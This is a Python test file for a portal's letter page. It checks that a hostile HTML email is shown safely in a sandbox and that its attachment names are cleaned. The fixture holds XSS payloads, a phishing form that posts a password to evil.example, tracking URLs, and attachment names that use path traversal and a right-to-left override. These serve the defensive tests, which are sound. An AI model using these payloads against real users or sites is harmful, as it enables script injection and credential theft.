"""A hostile letter on the letter page: nothing of it runs, fetches, or passes for our own words."""

from __future__ import annotations

import html
import io
import re
import zipfile
from email.message import EmailMessage
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from gateway.core.letter import State
from tests.web.browser import Browser
from tests.web.stand_in import NOW, TOKEN, StandIn, session, showing
from web.portal.sessions import Sessions

L = f"/l/{TOKEN}"
PNG = bytes.fromhex("89504e470d0a1a0a") + b"\0" * 40
EVIL = """<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">
<link rel="stylesheet" href="http://evil.example/x.css"><style>@import url(http://evil.example/y.css); body{display:none}</style>
<script>alert(1)</script></head><body background="http://evil.example/b.png" onload="alert(2)">
<p style="position:fixed;top:0;background:url(http://evil.example/c.png);color:#123456">Shown words</p>
<img src="http://evil.example/track.gif"><img src="//evil.example/t.gif" srcset="http://evil.example/2x 2x">
<img src="cid:logo@x" alt="logo">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><img src=x onerror="alert(3)">
<a href="javascript:alert(4)">one</a><a href="https://example.org/ok">two</a><a href="data:text/html,x">three</a>
<form action="http://evil.example/phish"><input name="password"><button>Send</button></form>
<iframe src="http://evil.example"></iframe><object data="http://evil.example"></object><svg><script>alert(5)</script></svg>
</textarea></iframe></main>"><script>alert(6)</script></body></html>"""


@pytest.fixture(autouse=True)
def accepted(counter: StandIn, browser: Browser) -> None:
    counter.letters[TOKEN] = showing(state=State.HANDED_OVER, open=False, decision="accept", decided_at=NOW)
    browser.cookies[Sessions(https=False).name(TOKEN)] = session(TOKEN)


class Tags(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


def evil_letter() -> bytes:
    message = EmailMessage()
    message["Subject"] = "x"
    message.set_content(EVIL, subtype="html")
    message.add_related(PNG, "image", "png", cid="<logo@x>")
    message.add_attachment(
        b"MZ", maintype="application", subtype="x-msdownload", filename='../../"><script>alert(7)</script>.exe'
    )
    message.add_attachment(b"<script>", maintype="text", subtype="html", filename="annexe à lire.html")
    message.add_attachment(b"x", maintype="application", subtype="pdf", filename="invoice\u202efdp.exe")
    return message.as_bytes()


async def test_a_hostile_html_letter_is_shown_and_harmless(browser: Browser, counter: StandIn) -> None:
    counter.raw = evil_letter()
    page = await browser.get(f"{L}/letter")
    tags = Tags(page.text)
    (frame,) = tags.all("iframe")
    assert frame["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
    assert not tags.all("script")
    inner = frame["srcdoc"] or ""
    inside = Tags(inner)
    assert "Shown words" in inner
    assert {name for name, _ in inside.found} <= {"meta", "style", "p", "img", "a"}
    assert [image["src"][:22] for image in inside.all("img") if image.get("src")] == ["data:image/png;base64,"]  # type: ignore[index]
    assert [(link.get("href"), link["target"]) for link in inside.all("a") if link.get("href")] == [
        ("https://example.org/ok", "_blank")
    ]
    assert "evil.example" not in inner
    assert not re.search(r"position|url\(|alert|onerror|password", inner)
    assert "left out" in page.text  # remote content, and it is said
    policy = page.headers["content-security-policy"]
    assert "script-src" not in policy and "default-src 'none'" in policy and "img-src 'self' data:" in policy


async def test_subjects_and_names_are_words_and_never_markup(browser: Browser, counter: StandIn) -> None:
    counter.subject = counter.sender_name = '</title><script>alert("x")</script>{{ 7 * 7 }}'
    counter.raw = evil_letter()
    page = await browser.get(f"{L}/letter")
    assert not Tags(page.text).all("script")
    assert html.escape(counter.subject, quote=False).replace('"', "&#34;") in page.text


async def test_attachments_come_under_safe_names_and_are_never_shown_by_the_browser(
    browser: Browser, counter: StandIn
) -> None:
    counter.raw = evil_letter()
    names, kinds = [], []
    for n in (1, 2, 3):
        part = await browser.get(f"{L}/parts/{n}")
        disposition = part.headers["content-disposition"]
        assert disposition.startswith("attachment; ")
        assert part.headers["content-security-policy"] == "default-src 'none'; sandbox"
        names.append(unquote(disposition.rpartition("UTF-8''")[2]))
        kinds.append(part.headers["content-type"])
    assert names == ["script_.exe", "annexe à lire.html", "invoicefdp.exe"]
    assert kinds == ["application/octet-stream", "application/octet-stream", "application/pdf"]
    assert (await browser.get(f"{L}/parts/4")).status == 404
    assert (await browser.get(f"{L}/parts/0")).status == 404


async def test_the_zip_holds_the_letter_byte_for_byte_and_each_attachment(browser: Browser, counter: StandIn) -> None:
    counter.raw = evil_letter()
    made = zipfile.ZipFile(io.BytesIO((await browser.get(f"{L}/letter.zip")).body))
    assert made.testzip() is None
    assert made.read("letter.eml") == counter.raw
    assert made.namelist()[1:] == [
        "attachments/01 script_.exe",
        "attachments/02 annexe à lire.html",
        "attachments/03 invoicefdp.exe",
    ]
    assert made.read("attachments/01 script_.exe") == b"MZ"
